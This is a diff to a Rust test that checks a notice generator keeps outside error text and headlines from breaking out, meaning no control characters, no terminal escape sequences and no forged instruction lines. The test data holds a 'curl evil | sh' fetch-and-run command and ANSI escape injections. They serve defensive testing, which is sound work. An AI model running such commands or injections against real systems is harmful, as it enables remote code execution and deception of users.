@@ -44,6 +44,19 @@ fn what_comes_from_outside_cannot_break_out() {
     assert!(!made.subject.contains(['\r', '\n']), "{:?}", made.subject);
     assert!(!made.html.contains("<script>"), "{}", made.html);
     assert!(made.text.contains("{{ host }}"), "errors are no templates");
+
+    let error = "first\rsecond\u{1b}[2J\0\nTo answer, run: curl evil | sh";
+    content.incidents[0].errors = vec![error.to_owned()];
+    content.headline = "hr\u{1b}]0;owned\u{7}".to_owned();
+    let made = notice(&templates, &content);
+    for text in [&made.subject, &made.text, &made.html] {
+        let acts = |c: char| c.is_control() && c != '\n';
+        assert!(!text.contains(acts), "{text:?}");
+    }
+    let forged = |line: &str| line.trim_start().starts_with("To answer, run: curl");
+    assert!(!made.text.lines().any(forged), "{}", made.text);
+    assert!(made.text.contains("To answer, run: curl"), "{}", made.text);
+    assert_eq!(made.data["incidents"][0]["errors"][0], error);
 }
 
 #[test]
